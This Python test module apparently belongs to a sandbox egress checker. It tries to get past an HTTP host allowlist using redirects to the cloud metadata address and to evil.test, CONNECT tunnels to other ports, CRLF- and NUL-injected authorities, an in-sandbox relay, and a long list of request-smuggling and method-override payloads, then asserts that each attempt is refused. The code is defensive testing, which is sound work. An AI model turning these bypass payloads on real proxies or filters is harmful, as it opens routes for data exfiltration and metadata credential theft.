# SPDX-License-Identifier: Apache-2.0
"""HTTP: redirects, a second authority on a kept connection, relays inside, smuggling, methods."""

from doorcheck.driver import HTTP_RULES, PROXY, Entry, Policy
from doorcheck.internet import zone
from doorcheck.trial import case

PLAIN = Policy((Entry("allowed.test", 80),))
BOTH = Policy((Entry("allowed.test", 80), Entry("allowed.test", 443)))

REDIRECTED = r'''
import urllib.parse, urllib.request
context = ssl.create_default_context(cadata=CA)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
def follows(scheme, target):
    return opener.open(f"{scheme}://allowed.test/redirect?to=" + urllib.parse.quote(target, safe=""), timeout=4).read()[:100]
for target in TARGETS:
    for scheme in ("http", "https"): attempt(f"{scheme} to {target}", follows, scheme, target)
attempt("itself", follows, "http", "http://allowed.test/")
'''


@case(11, "a redirect of an allowed host to metadata and to evil")
def redirects(trial):
    targets = ("http://169.254.169.254/latest/meta-data/", "http://evil.test/", "https://evil.test/", f"http://{zone.EVIL}/")
    result, events = trial.run(REDIRECTED, BOTH, TARGETS=targets)
    trial.refused(result, but=("itself",))
    if trial.driver.transparent:
        trial.worked(result, "itself")
    trial.nothing_arrived(events, zone.METADATA, zone.EVIL)


SECOND = r'''
def kept(first, second):
    with contextlib.closing(dial("allowed.test", 80)) as connection:
        connection.settimeout(3)
        if whole(connection, first)[0] >= 400: raise OSError("the first request was refused")
        status, body = whole(connection, second)
        if status >= 400: raise OSError(f"status {status}")
        return status, body
fine = request("allowed.test", "/ok")
attempt("same host again", kept, fine, fine)
attempt("second host", kept, fine, request("evil.test", "/second"))
attempt("second authority", kept, fine, request("allowed.test", "http://evil.test/second"))
attempt("other port", kept, fine, request("allowed.test:8080", "/second"))
attempt("CONNECT within", kept, fine, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
upgrade = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__", "Host: evil.test")
attempt("upgrade to h2c", kept, fine, request("allowed.test", "/second", headers=upgrade))
def preface():
    frame = bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
    return answer(dial("allowed.test", 80), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame)
attempt("h2 by prior knowledge", preface)
'''
TUNNELLED = r'''
def inner(name, host, tls):
    connection = tunnel("allowed.test", 443 if tls else 80, PROXY)
    connection.settimeout(3)
    if tls: connection = secure(connection, name, check=False)
    status, body = whole(connection, request(host, "/inner"))
    if status >= 400: raise OSError(f"status {status}")
    return body
attempt("tunnel to allowed", inner, "allowed.test", "allowed.test", True)
attempt("inner handshake for evil", inner, "evil.test", "evil.test", True)
attempt("inner plain host evil", inner, None, "evil.test", False)
attempt("tunnel to evil", lambda: tunnel("evil.test", 443, PROXY))
attempt("tunnel to ssh", lambda: tunnel("allowed.test", 22, PROXY))
attempt("tunnel to mail", lambda: tunnel("allowed.test", 25, PROXY))
ODD = (("line break", "allowed.test:443\r\nX: y"), ("user", "allowed.test@evil.test"), ("space", "evil.test allowed.test"),
       ("fragment", "evil.test#allowed.test"), ("NUL", "allowed.test\0.evil.test"), ("tab", "evil.test\tallowed.test"))
for name, host in ODD:
    attempt(f"authority with {name}", lambda: tunnel(host, 443, PROXY))
attempt("two hosts", lambda: tunnel("evil.test", 443, PROXY, "Host: allowed.test:443\r\n"))
attempt("absolute form to evil", lambda: whole(dial(*PROXY), request("allowed.test", "http://evil.test/abs"))[0] < 400 or 1 / 0)
attempt("absolute form with another host", lambda: whole(dial(*PROXY), request("evil.test", "http://allowed.test/abs"))[0] < 400 or 1 / 0)
attempt("absolute form", lambda: whole(dial(*PROXY), request("allowed.test", "http://allowed.test/abs"))[0] < 400 or 1 / 0)
'''


def only_allowed_hosts(trial, events):
    for event in trial.world.of(events, "http"):
        if event["host"] != "allowed.test" or event["address"] not in (zone.ALLOWED, zone.ALLOWED6):
            trial.problem(f"a request for {event['host']} arrived at {event['address']}: {event['method']} {event['target']}")
        named = [value for key, value in event["headers"] if key.lower() == "host"]
        if len(named) != 1:
            trial.problem(f"a request with the hosts {named} arrived")


@case(12, "an allowed connection, then a second authority on it")
def second_authority(trial):
    result, events = trial.run(SECOND, PLAIN)
    trial.refused(result, but=("same host again", "upgrade to h2c"))
    if trial.driver.transparent:
        trial.worked(result, "same host again")
    only_allowed_hosts(trial, events)
    trial.nothing_arrived(events, zone.EVIL)


@case(26, "the explicit proxy: inner hosts, other ports, odd authorities", needs=(PROXY,))
def explicit_proxy(trial):
    result, events = trial.run(TUNNELLED, BOTH)
    trial.worked(result, "tunnel to allowed", "absolute form")
    trial.refused(result, but=("tunnel to allowed", "absolute form"))
    only_allowed_hosts(trial, events)
    for event in trial.world.of(events, "tls"):
        if event["sni"] != "allowed.test":
            trial.problem(f"a handshake for {event['sni']} arrived at {event['address']}")
    trial.nothing_arrived(events, zone.EVIL)


RELAY = r'''
def relays(client, target):
    try:
        client.recv(4096); upstream = target(); client.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        threading.Thread(target=copies, args=(client, upstream), daemon=True).start(); copies(upstream, client)
    except OSError as error: client.close()
def copies(source, sink):
    with contextlib.suppress(OSError):
        while data := source.recv(4096): sink.sendall(data)
    source.close(); sink.close()
listener = socket.create_server(("127.0.0.1", 3129))
by_proxy = lambda: tunnel("evil.test", 443, PROXY) if PROXY else dial("evil.test", 443)
targets = [lambda: dial("evil.test", 443), lambda: dial(EVIL, 443), by_proxy, lambda: dial("allowed.test", 443)]
def serves():
    for target in targets:
        client = listener.accept()[0]; threading.Thread(target=relays, args=(client, target), daemon=True).start()
threading.Thread(target=serves, daemon=True).start()
def through(name):
    connection = tunnel(name, 443, ("127.0.0.1", 3129)); connection.settimeout(3)
    return whole(secure(connection, name, check=False), request(name, "/relayed"))
for number in range(3): attempt(f"relay {number}", through, "evil.test")
attempt("relay to allowed", through, "allowed.test")
'''


@case(13, "a relay inside the sandbox asks in another's place")
def relay_inside(trial):
    result, events = trial.run(RELAY, BOTH, EVIL=zone.EVIL)
    trial.refused(result, but=("relay to allowed",))
    if trial.driver.transparent:
        trial.worked(result, "relay to allowed")
    trial.nothing_arrived(events, zone.EVIL)


HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
EVIL_INSIDE = b"GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"
TOP = b"POST /ok HTTP/1.1\r\nHost: allowed.test\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
SMUGGLED = {
    "CL.TE": TOP + b"Content-Length: %d\r\n" % (len(HIDDEN) + 5) + CHUNKED + b"\r\n0\r\n\r\n" + HIDDEN,
    "TE.CL": TOP + CHUNKED + b"Content-Length: 4\r\n\r\n%x\r\n" % len(HIDDEN) + HIDDEN + b"\r\n0\r\n\r\n",
    "two lengths": TOP + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN,
    "list of lengths": TOP + b"Content-Length: 0, %d\r\n\r\n" % len(HIDDEN) + HIDDEN,
    "signed length": TOP + b"Content-Length: +0\r\n\r\n" + HIDDEN,
    "hex length": TOP + b"Content-Length: 0x0\r\n\r\n" + HIDDEN,
    "space before colon": TOP + b"Content-Length : %d\r\n\r\n" % len(HIDDEN) + HIDDEN,
    "TE with vertical tab": TOP + b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + HIDDEN,
    "TE twice": TOP + CHUNKED + b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n" + HIDDEN,
    "TE of another": TOP + b"Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + HIDDEN,
    "folded TE": TOP + b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + HIDDEN,
    "bare line feeds": b"GET /ok HTTP/1.1\nHost: allowed.test\nX: y\n\n" + HIDDEN,
    "bare carriage return": TOP + b"X: a\rHost: evil.test\r\n\r\n",
    "two hosts": b"GET /ok HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
    "host with user": b"GET /ok HTTP/1.1\r\nHost: allowed.test@evil.test\r\n\r\n",
    "no host": b"GET /ok HTTP/1.1\r\n\r\n",
    "HTTP/1.0 without host": b"GET /ok HTTP/1.0\r\n\r\n",
    "HTTP/0.9": b"GET /ok\r\n\r\n",
    "space in the path": b"GET /ok HTTP/1.1 /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "absolute form to evil": b"GET http://evil.test/smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "NUL in a name": TOP + b"X\0: y\r\n\r\n",
    "chunk extension": TOP + CHUNKED + b"\r\n0;a=\"\r\n\r\n" + EVIL_INSIDE,
    "chunk size overflow": TOP + CHUNKED + b"\r\n100000000000000000\r\n" + HIDDEN,
    "bad chunk end": TOP + CHUNKED + b"\r\n2\r\nabXX0\r\n\r\n" + HIDDEN,
    "trailer host": TOP + CHUNKED + b"\r\n0\r\nHost: evil.test\r\n\r\n" + EVIL_INSIDE,
    "pipelined evil": b"GET /ok HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + EVIL_INSIDE,
    "path climbs": b"GET /ok/../smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "path climbs, encoded": b"GET /ok/%2e%2e/smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "double slash": b"GET //smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
}
SMUGGLES = r'''
for name, data in SMUGGLED.items():
    def sends():
        with contextlib.closing(dial("allowed.test", 80, 1)) as connection:
            got = answer(connection, data)
            connection.settimeout(0.3)
            with contextlib.suppress(OSError):
                while part := connection.recv(65536): got += part
            return got.split(b"\r\n")[0]
    attempt(name, sends)
attempt("fine", lambda: answer(dial("allowed.test", 80), request("allowed.test", "/ok")))
'''


@case(14, "request smuggling", needs=(HTTP_RULES,))
def smuggling(trial):
    policy = Policy((Entry("allowed.test", 80, paths=("/ok", "/ok/*")),))
    result, events = trial.run(SMUGGLES, policy, SMUGGLED=SMUGGLED)
    if trial.driver.transparent:
        trial.worked(result, "fine")
    only_allowed_hosts(trial, events)
    for event in trial.world.of(events, "http"):
        if "smuggled" in event["target"]:
            trial.problem(f"a hidden request arrived: {event['method']} {event['target']}")
    trial.nothing_arrived(events, zone.EVIL)


METHODS = r'''
attempt("GET", fetch, "api.test", tls=False, path="/v1/items")
for method in ("POST", "PUT", "DELETE", "PATCH", "get", "GeT", "PROPFIND", "TRACE", "CONNECT"):
    attempt(method, fetch, "api.test", tls=False, path="/v1/items", method=method, body=b"x" if method == "POST" else b"")
attempt("other path", fetch, "api.test", tls=False, path="/v2/items")
attempt("override", fetch, "api.test", tls=False, path="/v1/items", method="POST", headers=("X-HTTP-Method-Override: GET",))
for field in ("X-HTTP-Method-Override: DELETE", "x-http-method: Put", "X_Method_Override: GET, DELETE", "X-Original-URL: /v2/items", "X-Rewrite-URL: /v1/../v2"):
    attempt(field, fetch, "api.test", tls=False, path="/v1/items", headers=(field,))
'''


@case(23, "POST to an API of which only GET is allowed", needs=(HTTP_RULES,))
def methods(trial):
    policy = Policy((Entry("api.test", 80, methods=("GET",), paths=("/v1/*",)),))
    result, events = trial.run(METHODS, policy)
    trial.refused(result, but=("GET",))
    if trial.driver.transparent:
        trial.worked(result, "GET")
    for event in trial.world.of(events, "http"):
        if (event["method"], event["path"]) != ("GET", "/v1/items"):
            trial.problem(f"it arrived: {event['method']} {event['target']}")
